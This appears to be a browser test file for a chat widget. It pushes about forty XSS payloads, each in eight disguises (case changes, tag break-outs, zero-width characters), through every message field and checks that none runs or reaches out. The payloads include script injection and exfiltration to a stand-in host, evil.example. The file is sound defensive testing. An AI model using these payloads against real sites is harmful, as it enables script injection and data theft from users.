"""Hostile text in every place the chat shows: nothing runs, nothing is fetched.

The payloads are the usual families (OWASP's XSS filter evasion list, PortSwigger's cheat sheet, image exfiltration
through Markdown) in several disguises. The server's own sanitiser is bypassed on purpose: this is the browser's alone.
"""

from __future__ import annotations

import itertools

import pytest
from playwright.sync_api import Page, expect

from tests.widget.fake_chat import FakeChat
from tests.widget.pages import KEY

pytestmark = pytest.mark.browser

_RUN = "window.hacked=1"
_OUT = "https://evil.example/leak?data=secret"
_PAYLOADS = [
    f"<script>{_RUN}</script>",
    f"<script src={_OUT}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_OUT}>",
    f"<img srcset='{_OUT} 1x'>",
    f"<picture><source srcset={_OUT}><img></picture>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><image href={_OUT} /></svg>",
    f"<svg><use href={_OUT}#a /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src={_OUT}></iframe>",
    f"<object data={_OUT}></object>",
    f"<embed src={_OUT}>",
    f"<video><source onerror={_RUN} src={_OUT}></video>",
    f"<audio src={_OUT} onerror={_RUN} autoplay>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<p style='background:url({_OUT})' onanimationend={_RUN}>x</p>",
    f"<style>@import '{_OUT}';*{{background:url({_OUT})}}</style>",
    f"<link rel=stylesheet href={_OUT}>",
    f"<link rel=preload as=image href={_OUT}>",
    f"<base href={_OUT}>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<form action={_OUT}><button autofocus formaction=javascript:{_RUN}>x</button></form>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='jav&#x09;ascript:{_RUN}'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    f"<a href=vbscript:{_RUN} ping={_OUT}>x</a>",
    f"<template><img src=x onerror={_RUN}></template><noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<table background={_OUT}><tr><td background={_OUT}>x</table>",
    f"<button data-citation='<img src=x onerror={_RUN}>'>x</button>",
    f"![x]({_OUT}) [a][b]\n\n[b]: javascript:{_RUN}",
    "<dialog open id=confirm-text>x</dialog><p id=chat-config>{}</p>",
]
_DISGUISES = {
    "plain": lambda text: text,
    "upper": lambda text: text.replace("script", "ScRiPt").replace("img", "IMG").replace("svg", "SVG"),
    "broken out": lambda text: f"\"'></p></div></textarea></title>{text}",
    "nested": lambda text: f"<p><b><i>{text}</i></b></p>",
    "in a table": lambda text: f"<table><tr><td>{text}</td></tr></table>",
    "after a comment": lambda text: f"<!--><{text}--><!-- -->{text}",
    "slashes": lambda text: text.replace(" ", "/"),
    "zero width": lambda text: f"\u200b{text}\u202e",
}
_ELEMENTS = set("a article b blockquote br button h3 i p span svg table tbody td tr use".split())
_ATTRIBUTES = {"aria-hidden", "aria-label", "class", "href", "rel", "target", "title", "type"}
CORPUS = [hide(text) for text, hide in itertools.product(_PAYLOADS, _DISGUISES.values())]


@pytest.fixture
def chat(tab: Page, origin: str) -> Page:
    tab.add_init_script(
        "window.met = []; addEventListener('securitypolicyviolation', (e) => met.push(e.effectiveDirective))"
    )
    tab.goto(f"{origin}/w/{KEY}/")
    expect(tab.locator("[data-connection=open]")).to_be_visible()
    return tab


def test_the_corpus_is_wide() -> None:
    assert len(set(CORPUS)) >= 300


def test_no_payload_runs_or_reaches_out_from_any_place(chat: Page, fake: FakeChat, origin: str) -> None:
    outside: list[str] = []
    dialogs: list[str] = []
    chat.on("request", lambda request: outside.append(request.url) if not request.url.startswith(origin) else None)
    chat.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for text in CORPUS:
        cited = {"label": "1", "kind": text, "title": text, "snippet": text, "url": text, "revision": text}
        fake.push({"type": "message", "author": "bot", "html": text, "text": text, "citations": [cited], "reply_to": 9})
        fake.push({"type": "message", "author": "agent", "html": text, "text": text, "agent": text})
    fake.push({"type": "message", "author": "customer", "text": CORPUS[0], "client_id": CORPUS[2]})
    fake.push({"type": "handover", "state": "joined", "agent": CORPUS[2]})
    fake.push({"type": "error", "code": "x", "message": CORPUS[2]})
    fake.push({"type": "delta", "reply_to": CORPUS[2], "n": 0, "text": CORPUS[2]})
    expect(chat.locator("[data-seq]")).to_have_count(2 * len(CORPUS) + 1)
    chat.locator(".source").last.click()
    expect(chat.get_by_role("dialog", name="Sources")).to_be_visible()
    for link in chat.locator("[data-chat-log] a:not([href^=http])").all():
        link.dispatch_event("click")
    chat.wait_for_timeout(500)
    assert chat.evaluate("window.hacked") is None
    assert (outside, dialogs) == ([], [])
    # Chromium holds even an inert document, into which it only parses, to the policy on attributes and <base>. What
    # would load anything must not have come so far.
    assert set(chat.evaluate("met")) <= {"style-src-attr", "style-src-elem", "script-src-attr", "base-uri"}
    nodes = "[...document.querySelectorAll('[data-chat-log] .turn__bubble *, [data-sheet-body] *')]"
    assert set(chat.evaluate(f"[...new Set({nodes}.map((node) => node.localName))]")) <= _ELEMENTS
    assert set(chat.evaluate(f"[...new Set({nodes}.flatMap((node) => node.getAttributeNames()))]")) <= _ATTRIBUTES
